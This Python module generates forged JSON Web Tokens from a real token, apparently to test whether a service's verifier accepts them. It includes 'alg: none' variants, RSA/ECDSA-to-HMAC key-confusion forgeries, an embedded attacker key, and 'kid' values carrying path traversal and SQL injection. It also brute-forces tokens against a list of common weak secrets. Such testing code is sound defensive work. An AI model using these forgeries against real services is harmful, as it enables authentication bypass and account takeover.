"""Forged JSON Web Tokens (RFC 7519), made of a real one without its key.

The attacks are those of RFC 8725, section 2. What only the holder of the signing key can make is in
:mod:`asbuilt.verify.signed`.
"""

from __future__ import annotations

import hmac
import json
from base64 import urlsafe_b64decode, urlsafe_b64encode
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from secrets import token_bytes
from typing import Any

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

WEAK_SECRETS = (
    "", "secret", "your-256-bit-secret", "your-secret-key", "your_secret_key", "secretkey",
    "secret-key", "changeme", "change-me", "change_me", "password", "jwt-secret", "jwt_secret",
    "my-secret", "mysecret", "supersecret", "super-secret", "super-secret-key", "test", "key",
    "dev",
)  # fmt: skip
"""Secrets of tutorials and templates, which end up in production."""
LONGEST = 5_000
_HASHES: dict[str, Callable[[], hashes.HashAlgorithm]] = {
    "256": hashes.SHA256,
    "384": hashes.SHA384,
    "512": hashes.SHA512,
}
_CURVES: dict[str, Callable[[], ec.EllipticCurve]] = {
    "256": ec.SECP256R1, "384": ec.SECP384R1, "512": ec.SECP521R1,
}  # fmt: skip

Members = dict[str, Any]
Sign = Callable[[bytes], bytes]


@dataclass(frozen=True, slots=True)
class Token:
    """A signed token in its parts; ``text`` is the whole."""

    text: str
    header: Members
    payload: Members
    signature: str

    @property
    def algorithm(self) -> str:
        """``alg`` of its header."""
        return str(self.header.get("alg", ""))


def parsed(text: str) -> Token | None:
    """The token that ``text`` is; None when it is no signed JSON Web Token."""
    parts = text.split(".")
    if len(parts) != 3:
        return None
    try:
        header, payload = (json.loads(decoded(part)) for part in parts[:2])
    except ValueError:
        return None
    if not isinstance(header, dict) or not isinstance(payload, dict):
        return None
    return Token(text, header, payload, parts[2])


def forgeries(token: Token, keys: list[Members], other: Members) -> Iterator[tuple[str, str]]:
    """Each forgery with what it is: ``a signature by another key``. ``keys`` are the service's
    public ones (JWK), ``other`` the claims that an attacker would like to have."""
    yield from _unsigned(token, other)
    yield from _altered(token, other)
    yield from _mangled(token)
    yield from _confused(token, keys)
    sign, jwk = other_key(token.algorithm)
    yield "a signature by another key", made(token.header, token.payload, sign)
    if jwk is not None:
        brought = {**token.header, "jwk": jwk}
        yield "a key that it brings along", made(brought, token.payload, sign)


def _unsigned(token: Token, other: Members) -> Iterator[tuple[str, str]]:
    for word in ("none", "None", "NONE", "nOnE"):
        header = {**token.header, "alg": word}
        yield f"the algorithm {word}", made(header, token.payload, lambda data: b"")
    header = {**token.header, "alg": "none"}
    yield (
        "the algorithm none and the old signature",
        f"{_part(header)}.{_part(token.payload)}.{token.signature}",
    )
    yield "the algorithm none and other claims", made(header, other, lambda data: b"")
    yield "no signature", f"{token.text.rpartition('.')[0]}."
    yield "no signature and no dot for it", token.text.rpartition(".")[0]


def _altered(token: Token, other: Members) -> Iterator[tuple[str, str]]:
    header, body, signature = token.text.split(".")
    later = {**token.payload, "exp": int(token.payload.get("exp") or 0) + 31_536_000}
    yield "other claims", f"{header}.{_part(other)}.{signature}"
    yield "a later end", f"{header}.{_part(later)}.{signature}"
    odd = {**token.header, "crit": ["x-unknown"], "x-unknown": True}
    yield "a critical extension", f"{_part(odd)}.{body}.{signature}"
    yield "another type", f"{_part({**token.header, 'typ': 'JWE'})}.{body}.{signature}"
    twice = json.dumps(token.payload)[:-1] + ", " + json.dumps(other)[1:]
    yield "every claim twice", f"{header}.{segment(twice.encode())}.{signature}"


def _mangled(token: Token) -> Iterator[tuple[str, str]]:
    signed, _, signature = token.text.rpartition(".")
    flipped = bytearray(decoded(signature) or b"\0")
    flipped[0] ^= 1
    yield "one bit of the signature changed", f"{signed}.{segment(bytes(flipped))}"
    yield "its end cut off", token.text[:-12]
    long = {**token.payload, "x": "x" * LONGEST}
    yield "more than any token holds", f"{signed.partition('.')[0]}.{_part(long)}.{signature}"


def _confused(token: Token, keys: list[Members]) -> Iterator[tuple[str, str]]:
    """The public key, which everybody knows, as the secret of an HMAC (RFC 8725, section 2.1)."""
    header = {**token.header, "alg": "HS256"}
    if not token.algorithm.startswith("HS"):
        for number, key in enumerate(keys):
            for name, secret in _spellings(key):
                what = f"an HMAC with public key {number + 1} as {name}"
                yield what, made(header, token.payload, _hmac(secret))
        yield "an HMAC without a secret", made(header, token.payload, _hmac(b""))
    nowhere = {**header, "kid": "../../../../../../dev/null"}
    yield "a key id that names an empty file", made(nowhere, token.payload, _hmac(b""))
    chosen = {**header, "kid": "x' UNION SELECT 'asbuilt' -- "}
    yield "a key id that is SQL", made(chosen, token.payload, _hmac(b"asbuilt"))


def guessed(token: Token) -> str | None:
    """The secret of a token's HMAC if it is one of :data:`WEAK_SECRETS`. It asks nobody."""
    if not token.algorithm.startswith("HS"):
        return None
    signed = token.text.rpartition(".")[0].encode()
    for secret in WEAK_SECRETS:
        if segment(_hmac(secret.encode(), token.algorithm[2:])(signed)) == token.signature:
            return secret
    return None


def made(header: Members, payload: Members, sign: Sign) -> str:
    """A token of these parts."""
    return sealed(written(header), written(payload), sign)


def sealed(header: bytes, payload: bytes, sign: Sign) -> str:
    """A token of parts that are written already."""
    signed = f"{segment(header)}.{segment(payload)}"
    return f"{signed}.{segment(sign(signed.encode()))}"


def other_key(algorithm: str) -> tuple[Sign, Members | None]:
    """How somebody else's new key signs, and its public part (JWK) where it has one."""
    kind, bits = algorithm[:2], algorithm[2:]
    if kind == "HS":
        return _hmac(token_bytes(32), bits), None
    if kind in ("RS", "PS") and bits in _HASHES:
        return _rsa(kind, bits)
    if kind == "ES" and bits in _CURVES:
        return _ecdsa(bits)
    key = ed25519.Ed25519PrivateKey.generate()
    raw = key.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
    return key.sign, {"kty": "OKP", "crv": "Ed25519", "x": segment(raw)}


def _rsa(kind: str, bits: str) -> tuple[Sign, Members]:
    key, digest = rsa.generate_private_key(65_537, 2048), _HASHES[bits]()
    numbers = key.public_key().public_numbers()
    pad = (
        padding.PSS(padding.MGF1(digest), digest.digest_size)
        if kind == "PS"
        else padding.PKCS1v15()
    )
    n = numbers.n.to_bytes(256, "big")
    public = {"kty": "RSA", "n": segment(n), "e": segment(numbers.e.to_bytes(3, "big"))}
    return lambda data: key.sign(data, pad, digest), public


def _ecdsa(bits: str) -> tuple[Sign, Members]:
    key = ec.generate_private_key(_CURVES[bits]())
    size, digest = (key.key_size + 7) // 8, _HASHES[bits]()

    def sign(data: bytes) -> bytes:
        r, s = decode_dss_signature(key.sign(data, ec.ECDSA(digest)))
        return r.to_bytes(size, "big") + s.to_bytes(size, "big")

    at = key.public_key().public_numbers()
    x, y = (segment(number.to_bytes(size, "big")) for number in (at.x, at.y))
    return sign, {"kty": "EC", "crv": f"P-{'521' if bits == '512' else bits}", "x": x, "y": y}


def _hmac(secret: bytes, bits: str = "256") -> Sign:
    return lambda data: hmac.digest(secret, data, f"sha{bits}")


def _spellings(key: Members) -> Iterator[tuple[str, bytes]]:
    """The bytes that a careless library could take for the secret."""
    yield "JSON", json.dumps(key, separators=(",", ":")).encode()
    public: ed25519.Ed25519PublicKey | rsa.RSAPublicKey | ec.EllipticCurvePublicKey
    if key.get("crv") == "Ed25519" and "x" in key:
        raw = decoded(key["x"])
        yield "bytes", raw
        public = ed25519.Ed25519PublicKey.from_public_bytes(raw)
    elif key.get("kty") == "RSA":
        e, n = (int.from_bytes(decoded(key[name]), "big") for name in ("e", "n"))
        public = rsa.RSAPublicNumbers(e, n).public_key()
    elif key.get("crv") in ("P-256", "P-384", "P-521"):
        x, y = (int.from_bytes(decoded(key[name]), "big") for name in ("x", "y"))
        curve = _CURVES["512" if key["crv"] == "P-521" else key["crv"][2:]]()
        public = ec.EllipticCurvePublicNumbers(x, y, curve).public_key()
    else:
        return
    pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    yield "PEM", pem
    yield "PEM without its last line break", pem.rstrip()
    yield "DER", public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)


def _part(members: Members) -> str:
    return segment(written(members))


def written(members: Members) -> bytes:
    """A header or the claims as JSON."""
    return json.dumps(members, separators=(",", ":")).encode()


def segment(data: bytes) -> str:
    """Bytes as a part of a token (RFC 7515, section 2: base64url without padding)."""
    return urlsafe_b64encode(data).decode().rstrip("=")


def decoded(part: str) -> bytes:
    """The inverse of :func:`segment`."""
    return urlsafe_b64decode(part + "=" * (-len(part) % 4))
